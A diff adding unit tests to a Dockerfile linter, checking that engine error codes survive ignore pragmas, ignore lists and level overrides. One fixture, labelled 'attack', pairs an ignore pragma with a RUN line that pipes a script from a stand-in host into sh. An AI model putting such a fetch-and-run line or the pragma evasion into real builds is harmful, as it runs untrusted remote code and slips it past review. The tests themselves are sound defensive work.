@@ -157,3 +157,59 @@ describe('stricterThreshold', () => {
     expect(stricterThreshold('none', 'error')).toBe('error');
   });
 });
+
+describe('engine codes cannot be silenced', () => {
+  // `$(( ))` is shell the parser rejects: DD001 is then the only thing standing between the RUN and the gate.
+  const attack =
+    'FROM debian:12\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n';
+
+  it('keeps DD001 when a pragma ignores it, and says the pragma has no effect', () => {
+    const found = lintText(attack, 'D');
+    expect(found).toContainEqual(expect.objectContaining({ code: 'DD001', level: 'error', line: 3 }));
+    expect(found).toContainEqual(
+      expect.objectContaining({
+        code: 'DD002',
+        level: 'warning',
+        line: 2,
+        message: expect.stringContaining('DD001, an engine code that cannot be ignored'),
+      }),
+    );
+  });
+
+  it('keeps DD001 under a global pragma, an ignore list and an override that lowers it', () => {
+    const config = parseLintConfig(
+      'ignored: [DD000, DD001, DD002, DD003, DD004]\noverride:\n  info: [DD001, DD004]\n  style: [DD002]\n',
+      '.drydock.yaml',
+    );
+    const text = `# hadolint global ignore=DD001,DD004\n${attack}`;
+    const found = lintText(text, 'D', { config });
+    expect(found.filter((f) => f.code.startsWith('DD00')).map((f) => [f.code, f.level])).toEqual([
+      ['DD002', 'warning'],
+      ['DD002', 'warning'],
+      ['DD002', 'warning'],
+      ['DD001', 'error'],
+    ]);
+  });
+
+  it('keeps DD000, DD003 and DD004 whatever the config says', () => {
+    const config = { ...DEFAULT_CONFIG, ignored: ['DD000', 'DD003', 'DD004'], disableIgnorePragma: true };
+    expect(codes('FROM a:1\nBOGUS x\n', config)).toContain('DD000');
+    expect(codes('FROM a:1\nRUN <<EOF\necho\nEOF\n', config)).toContain('DD004');
+    const crash = defineRule({
+      id: 'DD999',
+      level: 'info',
+      title: 't',
+      rationale: 'r',
+      check: () => {
+        throw new Error('boom');
+      },
+    });
+    expect(lintText('FROM a:1\n', 'D', { config, rules: [crash] }).map((f) => f.code)).toEqual(['DD003']);
+  });
+
+  it('lets an override raise an engine code', () => {
+    const config = { ...DEFAULT_CONFIG, overrides: { DD002: 'error' as const } };
+    const found = lintText(attack, 'D', { config });
+    expect(found.find((f) => f.code === 'DD002')?.level).toBe('error');
+  });
+});
